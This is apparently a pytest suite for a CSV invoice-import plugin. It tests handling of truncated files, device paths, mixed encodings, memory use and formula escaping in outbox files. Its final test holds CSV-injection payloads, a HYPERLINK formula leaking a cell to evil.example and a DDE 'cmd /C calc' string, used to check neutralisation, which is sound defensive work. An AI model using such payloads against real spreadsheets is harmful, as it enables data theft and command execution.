"""Bad exports: a file cut off mid-row, a path that is no file (/dev/zero, a pipe), a file too
large, a file mixing UTF-8 and Windows-1252, the memory a large export takes, and formula-like
text in the outbox files people open in a spreadsheet."""

from __future__ import annotations

import datetime as dt
import os
import subprocess
import sys
import textwrap
import tracemalloc
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import pytest
from generic_csv import cache, plugin

from hub.errors import InvalidDataError, SettingsError
from hub.model import ClientContext, CreditNoteRequest, JournalEntry, JournalLine

MakeCtx = Callable[..., ClientContext]
WriteFile = Callable[..., Path]

HEADER = "Fakturanr;Kundenr;Kundenavn;Fakturadato;Forfaldsdato;Valuta;Brutto\r\n"
ROW_1 = "1001;K1;Æblegården ApS;01.03.2024;31.03.2024;DKK;1.250,00\r\n"
ROW_2 = "1002;K2;Søren Ørsted;15.03.2024;14.04.2024;DKK;500,00\r\n"


# --------------------------------------------------------------------------- cut mid-row


def test_a_file_cut_mid_row_is_refused_naming_file_and_line(
    make_ctx: MakeCtx, write_file: WriteFile
) -> None:
    whole = HEADER + ROW_1 + ROW_2
    cut = whole[: whole.index("500,00") + 1]  # "...;DKK;5": still a valid row
    write_file("invoices.csv", cut, encoding="cp1252")
    with pytest.raises(InvalidDataError) as err:
        plugin.fetch_open_invoices(make_ctx())
    assert err.value.where == "invoices.csv:3"
    assert "does not end with a line break" in str(err.value)
    assert "require_final_newline=false" in str(err.value)
    with pytest.raises(InvalidDataError):  # every hook refuses it; nothing is answered PAID
        plugin.fetch_invoice_status(make_ctx(), ["1001", "1002"])
    write_file("invoices.csv", whole, encoding="cp1252")
    amounts = [i.gross_amount for i in plugin.fetch_open_invoices(make_ctx())]
    assert amounts == [Decimal("1250.00"), Decimal("500.00")]


def test_an_export_that_never_ends_with_a_line_break_can_be_allowed(
    make_ctx: MakeCtx, write_file: WriteFile
) -> None:
    write_file("invoices.csv", (HEADER + ROW_1 + ROW_2).rstrip("\r\n"), encoding="cp1252")
    with pytest.raises(InvalidDataError, match="line break"):
        plugin.fetch_open_invoices(make_ctx())
    invoices = plugin.fetch_open_invoices(make_ctx(require_final_newline="false"))
    assert [i.gross_amount for i in invoices] == [Decimal("1250.00"), Decimal("500.00")]


def test_blank_lines_after_the_last_line_break_are_not_a_cut(
    make_ctx: MakeCtx, write_file: WriteFile
) -> None:
    write_file("invoices.csv", HEADER + ROW_1 + ROW_2 + ";;;  ", encoding="cp1252")
    assert len(plugin.fetch_open_invoices(make_ctx())) == 2


def test_a_cut_inside_a_quoted_value_is_refused(make_ctx: MakeCtx, write_file: WriteFile) -> None:
    write_file("invoices.csv", HEADER + ROW_1 + '1002;K2;"Søren', encoding="cp1252")
    with pytest.raises(InvalidDataError) as err:
        plugin.fetch_open_invoices(make_ctx(require_final_newline="false"))
    assert err.value.where == "invoices.csv:3"


# --------------------------------------------------------------------------- not a file


def _run_isolated(code: str, tmp_path: Path, timeout: float = 60) -> str:
    """Run ``code`` in a child process limited to 1 GiB of address space and ``timeout``
    seconds, so that reading /dev/zero or a pipe without end cannot take the test run down."""
    script = tmp_path / "child.py"
    script.write_text(
        textwrap.dedent(
            """
            import datetime as dt, resource, sys
            resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
            from generic_csv import plugin
            from hub.testing.contexts import plugin_context
            def ctx(**settings):
                return plugin_context(plugin.system_info(), settings, today=dt.date(2024, 6, 1))
            try:
            """
        )
        + textwrap.indent(textwrap.dedent(code), "    ")
        + "\nexcept Exception as exc:\n    print(type(exc).__name__, exc)\n"
    )
    try:
        done = subprocess.run(
            [sys.executable, str(script)],
            capture_output=True,
            text=True,
            timeout=timeout,
            env=os.environ,
        )
    except subprocess.TimeoutExpired:
        return "timed out"
    return done.stdout + done.stderr


def test_dev_zero_is_refused_before_a_byte_is_read(tmp_path: Path) -> None:
    out = _run_isolated(
        f"plugin.fetch_open_invoices(ctx(invoices_path='/dev/zero', outbox_dir={str(tmp_path)!r}))",
        tmp_path,
    )
    assert out.startswith("SettingsError"), out
    assert "invoices_path" in out and "'/dev/zero' is a character device" in out


def test_a_named_pipe_is_refused_without_blocking(tmp_path: Path) -> None:
    fifo = tmp_path / "invoices.csv"
    os.mkfifo(fifo)
    out = _run_isolated(
        f"plugin.fetch_open_invoices(ctx(invoices_path={str(fifo)!r},"
        f" outbox_dir={str(tmp_path)!r}))",
        tmp_path,
        timeout=30,
    )
    assert out.startswith("SettingsError"), out
    assert "is a named pipe, not a regular file" in out


def test_a_directory_is_refused(make_ctx: MakeCtx, tmp_path: Path) -> None:
    with pytest.raises(SettingsError, match="invoices_path: .* is a directory"):
        plugin.fetch_open_invoices(make_ctx(invoices_path=str(tmp_path)))


def test_a_file_over_the_size_limit_is_refused_unread(
    make_ctx: MakeCtx, write_file: WriteFile
) -> None:
    body = "".join(
        f"{2000 + i};K{i};Kunde {i};01.03.2024;31.03.2024;DKK;{i},00\r\n" for i in range(30000)
    )
    path = write_file("invoices.csv", HEADER + body, encoding="cp1252")
    assert path.stat().st_size > 1_000_000
    with pytest.raises(InvalidDataError) as err:
        plugin.fetch_open_invoices(make_ctx(max_file_mb="1"))
    assert err.value.where == "invoices.csv"
    assert "larger than the limit of 1,000,000 bytes" in str(err.value)
    assert "max_file_mb" in str(err.value)
    assert len(plugin.fetch_open_invoices(make_ctx(max_file_mb="2"))) == 29999


# --------------------------------------------------------------------------- encodings


def test_utf8_header_with_windows_1252_rows_is_refused_not_a_missing_column(
    make_ctx: MakeCtx, tmp_path: Path
) -> None:
    header = "Fakturanr;Kundenr;Kundenavn;Fakturadato;Forfaldsdato;Valuta;Beløb i alt\r\n"
    (tmp_path / "invoices.csv").write_bytes(
        header.encode("utf-8") + ROW_1.encode("cp1252") + ROW_2.encode("cp1252")
    )
    with pytest.raises(InvalidDataError) as err:
        plugin.fetch_open_invoices(make_ctx())
    message = str(err.value)
    assert err.value.where == "invoices.csv:2"  # the first line that is not UTF-8
    assert "mixes two encodings" in message and "not valid UTF-8" in message
    assert "0xC6" in message  # Windows-1252's Æ
    assert "line 1 has UTF-8 text ('ø')" in message
    assert "missing" not in message


def test_utf8_rows_among_windows_1252_rows_never_store_mojibake(
    make_ctx: MakeCtx, tmp_path: Path
) -> None:
    (tmp_path / "invoices.csv").write_bytes(
        HEADER.encode("ascii") + ROW_1.encode("utf-8") + ROW_2.encode("cp1252")
    )
    with pytest.raises(InvalidDataError, match="mixes two encodings") as err:
        plugin.fetch_open_invoices(make_ctx())
    assert err.value.where == "invoices.csv:3"


def test_a_utf8_bom_file_with_windows_1252_bytes_names_the_line(
    make_ctx: MakeCtx, tmp_path: Path
) -> None:
    (tmp_path / "invoices.csv").write_bytes(
        b"\xef\xbb\xbf" + (HEADER + ROW_1).encode("utf-8") + ROW_2.encode("cp1252")
    )
    with pytest.raises(InvalidDataError, match="not valid UTF-8") as err:
        plugin.fetch_open_invoices(make_ctx())
    assert err.value.where == "invoices.csv:3"


def test_pure_windows_1252_and_pure_utf8_still_read(make_ctx: MakeCtx, tmp_path: Path) -> None:
    for encoding in ("cp1252", "utf-8"):
        (tmp_path / "invoices.csv").write_bytes((HEADER + ROW_1 + ROW_2).encode(encoding))
        names = [i.customer_name for i in plugin.fetch_open_invoices(make_ctx())]
        assert names == ["Æblegården ApS", "Søren Ørsted"]


# --------------------------------------------------------------------------- memory


def test_a_large_export_is_read_in_a_small_multiple_of_its_size(
    make_ctx: MakeCtx, tmp_path: Path
) -> None:
    """The peak of Python memory reading a 4 MB export, the invoices returned included,
    stays under 10x the file (it was about 25x: the file as text, a list of its lines, a
    table of every row's cells, then the invoices)."""
    path = tmp_path / "invoices.csv"
    with path.open("w", encoding="cp1252", newline="") as f:
        f.write(
            "Fakturanr;Kundenr;Kundenavn;Fakturadato;Forfaldsdato;Valuta;"
            "Netto;Moms;Brutto;Restbeløb\r\n"
        )
        base = dt.date(2026, 1, 1)
        for i in range(40000):
            day = base + dt.timedelta(days=i % 300)
            net = 1000 + (i * 37) % 90000
            f.write(
                f"{100000 + i};{1000 + i % 4000};Kunde {i % 997} ÆØÅ ApS;{day:%d.%m.%Y};"
                f"{day + dt.timedelta(days=14):%d.%m.%Y};DKK;{net},{i % 100:02};"
                f"{net // 4},00;{net + net // 4},{i % 100:02};{net + net // 4},{i % 100:02}\r\n"
            )
    size = path.stat().st_size
    cache.clear()
    tracemalloc.start()
    try:
        invoices = plugin.fetch_open_invoices(make_ctx())
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
        cache.clear()
    assert len(invoices) == 40000
    assert peak / size < 10, f"peak {peak:,} bytes for a {size:,}-byte file"


# --------------------------------------------------------------------------- outbox formulas


def test_formula_like_text_is_neutralised_in_outbox_files(
    make_ctx: MakeCtx, tmp_path: Path
) -> None:
    ctx = make_ctx()
    name = plugin.create_credit_note(
        ctx,
        CreditNoteRequest(
            idempotency_key="creditnote:7",
            invoice_number="1001",
            customer_number="K1",
            date=dt.date(2024, 6, 1),
            currency="DKK",
            amount=Decimal("150.00"),
            reason='=HYPERLINK("http://evil.example/?"&A1,"Klik")',
        ),
    )
    text = (tmp_path / "outbox" / name).read_bytes().decode("utf-8")
    assert ';"\'=HYPERLINK(""http://evil.example/?""&A1,""Klik"")"\r\n' in text
    voucher = plugin.post_journal_lines(
        ctx,
        JournalEntry(
            idempotency_key="writeoff:9",
            date=dt.date(2024, 6, 1),
            currency="DKK",
            text="@SUM(1+1)*cmd|' /C calc'!A0",
            lines=(
                JournalLine(account="5810", amount=Decimal("150.00"), text="+1+2"),
                JournalLine(customer_number="K1", amount=Decimal("-150.00"), text="-1+2"),
                JournalLine(account="5811", amount=Decimal("0.00"), text="\tTab"),
            ),
        ),
    )
    rows = (tmp_path / "outbox" / voucher).read_bytes().decode("utf-8").split("\r\n")
    assert rows[1].split(";")[3] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[1].split(";")[-1] == "'+1+2"
    assert rows[2].split(";")[-2:] == ["-150.00", "'-1+2"]  # the amount stays a number
    assert rows[3].split(";")[-1] == "'\tTab"
